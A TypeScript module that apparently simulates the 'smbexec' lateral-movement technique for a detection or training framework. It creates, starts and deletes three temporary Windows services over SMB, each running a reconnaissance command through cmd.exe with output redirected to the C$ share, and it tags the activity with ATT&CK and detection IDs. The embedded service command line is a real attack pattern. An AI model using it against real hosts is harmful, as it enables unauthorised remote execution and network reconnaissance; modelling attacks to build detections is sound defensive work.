import { ACCOUNTS, HOSTS } from "../../estate/company.ts";
import { SVCCTL } from "../../speak/dcerpc.ts";
import { PipeCaller } from "../../speak/rpc-talk.ts";
import { ServiceControl } from "../../speak/service-control.ts";
import { ascii } from "../../wire/byte-writer.ts";
import { onlyStep, STRANGER, type Technique } from "../technique.ts";

export const smbexec: Technique = {
  name: "smbexec",
  shows:
    "Three throw-away services run one command each through the command interpreter; the output is read from a share.",
  isAttack: true,
  play(stage) {
    const step = onlyStep(stage, STRANGER, HOSTS.files, {
      phase: "lateral-movement",
      attack: ["T1021.002", "T1569.002"],
      account: ACCOUNTS.helpdesk.user,
      what: "Created, started and deleted three services that run commands through cmd.exe",
      detections: ["BT-LM-003", "BT-LM-001"],
    });
    stage.smb(1e9, STRANGER, HOSTS.files, { user: ACCOUNTS.helpdesk.user, witness: step }, (smb) => {
      const { random } = smb.talk;
      const pipe = new PipeCaller(smb, smb.tree("IPC$"), SVCCTL);
      const control = new ServiceControl(pipe, HOSTS.files.name, random);
      control.openManager();
      const share = smb.tree("C$");
      for (const command of ["whoami", "ipconfig /all", "net group /domain"]) {
        const name = `Svc${random.hex(5)}`;
        const binaryPath = `%COMSPEC% /Q /c echo ${command} ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\run.bat & %COMSPEC% /Q /c %TEMP%\\run.bat & del %TEMP%\\run.bat`;
        smb.talk.shows = step;
        const handle = control.create({ name, displayName: name, binaryPath });
        control.start(handle);
        control.remove(handle);
        smb.talk.shows = undefined;
        control.close(handle);
        const output = smb.open(share, "__output", { octets: 60 });
        smb.readBytes(output, ascii(`output of ${command}\r\n`.padEnd(60)));
        smb.close(output);
      }
      control.closeManager();
      pipe.close();
      smb.logoff();
    });
  },
};
